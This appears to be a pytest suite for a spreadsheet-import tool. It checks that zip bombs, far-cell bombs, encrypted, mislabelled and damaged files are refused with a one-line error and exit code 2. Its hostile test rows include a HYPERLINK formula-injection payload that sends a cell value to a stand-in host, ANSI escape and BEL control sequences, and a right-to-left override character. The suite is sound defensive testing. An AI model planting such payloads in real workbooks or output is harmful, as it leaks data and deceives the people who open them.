"""Hostile and broken files: refused with a sentence and exit code 2, in bounded memory, never a
traceback, and the ledger untouched. Bombs run in a subprocess under RLIMIT_AS, so a regression
fails this test instead of taking the machine down."""

from __future__ import annotations

import json
import subprocess
import sys
import textwrap
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from tests import hostile_files as hostile
from tests.ingest_workbooks import HEADER, ROUND, problem_rows, simple_ledger, write_xlsx
from toolkit.cli import main
from toolkit.ingest import limits
from toolkit.ingest.preflight import SheetSurvey, scan_biff
from toolkit.safe_xlsx import formula_cells

ADDRESS_SPACE = 1536 * 1024 * 1024  # a normal import runs in 600 MB; every bomb asks for gigabytes

RUN_LIMITED = textwrap.dedent(
    """
    import resource, sys
    resource.setrlimit(resource.RLIMIT_AS, ({limit}, {limit}))
    from toolkit.cli import main
    sys.argv = ["toolkit", "import", *sys.argv[1:]]
    main()
    """
)


def import_limited(*args: str) -> subprocess.CompletedProcess:
    code = RUN_LIMITED.format(limit=ADDRESS_SPACE)
    return subprocess.run(
        [sys.executable, "-c", code, *args],
        capture_output=True,
        text=True,
        timeout=300,
        cwd=Path(__file__).resolve().parents[1],
    )


BOMBS = {
    "XFD1048576": lambda p: hostile.far_cell(p, "XFD1048576"),
    "ZZ200000": lambda p: hostile.far_cell(p, "ZZ200000"),
    "dimension": hostile.lying_dimension,
    "zip bomb": lambda p: hostile.zip_bomb(p, limits.MAX_UNCOMPRESSED_BYTES // limits.MB + 10),
    "lying sizes": hostile.lying_zip_sizes,
    "merged ranges": hostile.merge_storm,
}


@pytest.mark.parametrize("kind", BOMBS)
def test_bombs_are_refused_in_bounded_memory(kind, tmp_path):
    bomb = BOMBS[kind](tmp_path / "bomb.xlsx")
    assert bomb.stat().st_size < 2 * limits.MB  # small files, huge once read the trusting way
    ledger = tmp_path / "l.duckdb"
    result = import_limited(str(bomb), "--ledger", str(ledger))
    assert result.returncode == 2, result.stderr[-2000:]
    assert "Traceback" not in result.stderr and "panicked" not in result.stderr
    assert "bomb.xlsx" in result.stderr and "nothing written" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    assert not ledger.exists()


def test_a_normal_import_fits_in_the_same_memory(tmp_path):
    """The limit the bombs run under is no handicap: a real ledger imports under it."""
    ledger = tmp_path / "l.duckdb"
    result = import_limited(
        str(simple_ledger(tmp_path / "a.xlsx")), "--ledger", str(ledger), "--round", ROUND
    )
    assert result.returncode == 0, result.stderr[-2000:]
    assert "接收 accepted 3" in result.stdout and ledger.exists()


def _encrypted(p: Path) -> Path:
    return hostile.encrypted_xlsx(p.with_suffix(".xlsx"))


def _csv_named_xlsx(p: Path) -> Path:
    path = p.with_suffix(".xlsx")
    path.write_text("序号,问题描述,整改时限\n1,问题,2021-09-30\n", encoding="utf-8")
    return path


def _html_named_xls(p: Path) -> Path:
    path = p.with_suffix(".xls")
    path.write_text("<html><body><table><tr><td>序号</td></tr></table></body></html>", encoding="utf-8")
    return path


def _zero_byte_xlsx(p: Path) -> Path:
    path = p.with_suffix(".xlsx")
    path.write_bytes(b"")
    return path


def _empty_csv(p: Path) -> Path:
    path = p.with_suffix(".csv")
    path.write_bytes(b"")
    return path


def _unknown_encoding_csv(p: Path) -> Path:
    path = p.with_suffix(".csv")
    path.write_bytes("序号,问题描述\n1,问题\n".encode("utf-16"))
    return path


def _huge_csv_field(p: Path) -> Path:
    path = p.with_suffix(".csv")
    path.write_text('序号,问题描述\n1,"' + "长" * 200_000 + '"\n', encoding="utf-8")
    return path


def _too_many_csv_columns(p: Path) -> Path:
    path = p.with_suffix(".csv")
    path.write_text(",".join(["x"] * (limits.MAX_COLUMNS + 1)) + "\n", encoding="utf-8")
    return path


def _directory(p: Path) -> Path:
    path = p.with_suffix(".xlsx")
    path.mkdir()
    return path


def _ods(p: Path) -> Path:
    path = p.with_suffix(".ods")
    path.write_bytes(b"PK\x03\x04 not really")
    return path


def _garbage(p: Path) -> Path:
    path = p.with_suffix(".xlsx")
    path.write_bytes(b"PK\x03\x04" + bytes(range(256)) * 4)
    return path


def _word_document(p: Path) -> Path:
    path = hostile.encrypted_xlsx(p.with_suffix(".xls"))
    data = path.read_bytes().replace(
        "EncryptionInfo".encode("utf-16-le"), "WordDocument\0\0".encode("utf-16-le")
    )
    path.write_bytes(data)
    return path


BAD_FILES = {
    "encrypted": (_encrypted, "password"),
    "csv named xlsx": (_csv_named_xlsx, ".csv"),
    "html named xls": (_html_named_xls, "HTML"),
    "zero-byte xlsx": (_zero_byte_xlsx, "empty"),
    "empty csv": (_empty_csv, "empty"),
    "unknown encoding": (_unknown_encoding_csv, "encoding"),
    "csv field over the csv limit": (_huge_csv_field, "CSV"),
    "too many csv columns": (_too_many_csv_columns, "limits"),
    "directory": (_directory, "is a directory"),
    "ods": (_ods, ".xlsx"),
    "damaged zip": (_garbage, "damaged"),
    "office file without a workbook": (_word_document, "workbook"),
}


@pytest.mark.parametrize("kind", BAD_FILES)
def test_bad_files_are_a_sentence_and_exit_2(kind, tmp_path):
    make, words = BAD_FILES[kind]
    bad = make(tmp_path / "bad")
    ledger = tmp_path / "l.duckdb"
    good = simple_ledger(tmp_path / "good.xlsx")
    result = CliRunner().invoke(
        main, ["import", str(good), str(bad), "--ledger", str(ledger), "--round", ROUND]
    )
    assert result.exit_code == 2, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert "Traceback" not in result.output and words in result.stderr
    assert not ledger.exists()  # the good file before it was not imported either


def test_excel_error_values_are_rejected_never_read_as_blank(tmp_path):
    path = hostile.error_cells(tmp_path / "e.xlsx")
    result = CliRunner().invoke(
        main, ["import", str(path), "--ledger", str(tmp_path / "l.duckdb"), "--round", ROUND, "--json"]
    )
    assert result.exit_code == 1, result.output
    out = json.loads(result.stdout)
    assert (out["accepted"], out["rejected"]) == (0, 1)
    faults = {e["column"]: e["reason_en"] for e in out["errors"]}
    assert "#N/A" in faults["C"] and "#DIV/0!" in faults["D"]


HOSTILE_ROWS = [
    [1, "县水务局党组", "财务", '=HYPERLINK("http://x.test/?"&A1,"点击")', "2021.9.30", "整改中"],
    [2, "县水务局党组", "财务", "挪用资金_x0007__x001B_[31m", "2021.9.30", "整改中"],  # BEL, ESC once read
    [3, "县水务局党组\u202e", "财务", "方向控制字符", "2021.9.30", "整改中"],
    [4, "县水务局党组", "财务", "金额为1e308", "2021.9.30", "整改中", 1e308],
    [5, "县水务局党组", "财务", "三十位数字", "2021.9.30", "整改中", "1" * 30],
    [6, "县水务局党组", "财务", "长" * (limits.TEXT_LENGTH + 1), "2021.9.30", "整改中"],
    [7, "县水务局党组", "财务", "正常的问题", "2021.9.30", "整改中"],
]


def _hostile_workbook(path: Path) -> Path:
    """Control characters as Excel stores them (``_x0007_``), a formula-like text kept as text."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "台账"
    ws.append([*HEADER, "涉及金额"])
    for row in HOSTILE_ROWS:
        ws.append(row)
    ws["D2"].data_type = "s"  # text in the source file too: its reader must keep it text
    wb.save(path)
    return path


def test_hostile_cells_with_rejects_summary_printed_workbook_saved(tmp_path):
    """Control characters, 1e308, 30 digits, over-long text: rejected with row and column, the
    summary printed, the rejects workbook saved with text as text, and the ledger still exports."""
    path = _hostile_workbook(tmp_path / "h.xlsx")
    ledger, rejects = tmp_path / "l.duckdb", tmp_path / "out" / "new" / "拒收行.xlsx"
    args = ["import", str(path), "--ledger", str(ledger), "--round", ROUND, "--rejects", str(rejects)]
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output and "\x1b" not in result.output and "\x07" not in result.output
    assert "接收 accepted 2" in result.stdout and "拒收 rejected 5" in result.stdout  # rows 2 and 8 in
    for row, column in ((3, "D"), (4, "B"), (5, "G"), (6, "G"), (7, "D")):
        assert f"{column}{row} " in result.stdout
    assert rejects.exists() and formula_cells(rejects) == []  # missing folders were created
    rows = list(openpyxl.load_workbook(rejects).worksheets[0].values)
    assert rows[1][3] == "挪用资金\u2407\u241b[31m"  # shown as control pictures, saved
    # imported back unchanged, the row is rejected again: the picture marks what must be fixed
    again = CliRunner().invoke(main, ["import", str(rejects), "--ledger", str(ledger), "--json"])
    faults = {
        (e["row"], e["column"]) for e in json.loads(again.stdout)["errors"] if "\u2407" in e["reason_zh"]
    }
    assert faults == {(2, "D")}
    out = tmp_path / "export.xlsx"
    exported = CliRunner().invoke(main, ["export", "--ledger", str(ledger), "--out", str(out)])
    assert exported.exit_code == 0, exported.output


@pytest.mark.parametrize(
    ("target", "why"),
    [
        ("rejects.csv", ".xlsx"),
        ("{input}", "overwrite"),
        ("{input}/below/a/file/r.xlsx", "cannot write"),
        ("{dir}", "is a directory"),
    ],
)
def test_bad_rejects_path_is_refused_before_importing(target, why, tmp_path):
    good = simple_ledger(
        tmp_path / "a.xlsx", [*problem_rows(1), [2, "县水务局党组", "财务", None, "2021.9.30", "整改中"]]
    )
    (tmp_path / "dir.xlsx").mkdir()
    target = target.format(input=good, dir=tmp_path / "dir.xlsx")
    ledger = tmp_path / "l.duckdb"
    result = CliRunner().invoke(
        main, ["import", str(good), "--ledger", str(ledger), "--round", ROUND, "--rejects", target]
    )
    assert result.exit_code == 2 and why in result.stderr and "Traceback" not in result.output
    assert not ledger.exists()


def test_biff_records_are_walked_for_extent_and_errors():
    """The .xls survey: a FORMULA cell with a cached #DIV/0!, a far NUMBER cell, a FILEPASS."""
    import struct

    def record(kind: int, body: bytes) -> bytes:
        return struct.pack("<HH", kind, len(body)) + body

    formula_error = struct.pack("<HHH", 4, 2, 0) + bytes([2, 0, 7, 0, 0, 0, 0xFF, 0xFF]) + bytes(6)
    sheet = record(0x0809, struct.pack("<HH", 0x0600, 0x0010) + bytes(12))
    sheet += record(0x0006, formula_error) + record(0x0203, struct.pack("<HHHd", 9, 5, 0, 1.0))
    (found,) = scan_biff(sheet + record(0x000A, b""))
    assert isinstance(found, SheetSurvey) and (found.rows, found.columns) == (10, 6)
    assert found.errors == {(5, 3): "#DIV/0!"}
    far = record(0x0203, struct.pack("<HHHd", 60_000, 250, 0, 1.0))
    with pytest.raises(Exception, match="250|251"):
        scan_biff(sheet + far)
    with pytest.raises(Exception, match="password"):
        scan_biff(record(0x002F, bytes(6)) + sheet)


def test_a_worksheet_part_the_workbook_does_not_name_is_measured_too(tmp_path):
    """An engine might resolve a sheet by another path than preflight: every part that says
    ``worksheet`` is measured, so a far cell cannot hide in one."""
    import zipfile

    path = hostile.raw_xlsx(tmp_path / "h.xlsx", hostile.sheet_xml(hostile.HEADER_ROW))
    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    with zipfile.ZipFile(path, "a") as zf:
        zf.writestr("xl/worksheets/elsewhere.xml", hostile.sheet_xml(far))
    from toolkit.ingest.readers import UnreadableFile, read_sheets

    with pytest.raises(UnreadableFile, match="1,048,576"):
        read_sheets(path)


def test_sheet_survey_needs_no_engine(tmp_path):
    """The survey of a real workbook agrees with what the engine then reads."""
    path = write_xlsx(tmp_path / "w.xlsx", ("台账", [HEADER, *problem_rows(4)]))
    from toolkit.ingest.preflight import survey
    from toolkit.ingest.readers import read_sheets

    (sheet,) = survey(path).sheets
    rows = read_sheets(path)[0].rows
    assert (sheet.rows, sheet.columns) == (len(rows), max(len(r) for r in rows)) == (5, 6)
